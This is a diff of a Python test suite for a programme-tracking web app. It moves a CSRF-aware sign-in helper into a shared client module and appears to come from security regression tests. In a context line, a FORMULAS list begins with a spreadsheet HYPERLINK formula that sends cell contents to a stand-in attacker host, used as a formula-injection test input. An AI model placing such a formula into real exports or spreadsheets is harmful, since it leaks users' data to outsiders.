@@ -23,22 +23,8 @@ from tests.api.builders import (
     given_milestone,
     given_programme,
 )
-from tests.api.client import Api, person
+from tests.api.client import Api, person, sign_in_to_pages
 from tracker.calendar import WorkingCalendar
-
-CSRF_FIELD = re.compile(r'name="_csrf_token" value="([^"]+)"')
-
-
-async def sign_in(api: Api, token: str) -> None:
-    """Sign the test client in to the pages (a session cookie, as a browser would)."""
-    form = await api.client.get("/sign-in")
-    found = CSRF_FIELD.search(form.text)
-    assert found is not None
-    answer = await api.client.post(
-        "/sign-in", data={"_csrf_token": found.group(1), "token": token, "next": "/"}
-    )
-    assert answer.status_code == 200 and "Sign out" in answer.text  # followed to "/"
-
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
@@ -89,7 +75,7 @@ async def test_finding_3_dates_outside_the_documented_range_are_refused_not_stor
         assert answer.status_code == 400 and answer.json()["code"] == "invalid_parameter", as_of
     for path in (report, f"/api/v1/programmes/{key}/milestones.ics"):
         assert (await api.get(path, sponsor)).status_code == 200, path
-    await sign_in(api, await api.token(SPONSOR))
+    await sign_in_to_pages(api, await api.token(SPONSOR))
     for page in (f"/programmes/{key}", f"/programmes/{key}/closure-report.pdf"):
         assert (await api.client.get(page)).status_code == 200, page
 
@@ -322,7 +308,7 @@ async def test_markup_in_titles_is_text_on_pages_in_the_timeline_and_in_ical(api
     key = await given_programme(api)
     await given_deliverable(api, key, title=MARKUP, submitted=True)
     await given_milestone(api, key, title=MARKUP + ";,")
-    await sign_in(api, await api.token(SPONSOR))
+    await sign_in_to_pages(api, await api.token(SPONSOR))
     for path in (f"/programmes/{key}", f"/programmes/{key}/closure-report", "/my/sign-offs"):
         answer = await api.client.get(path)
         assert answer.status_code == 200, path
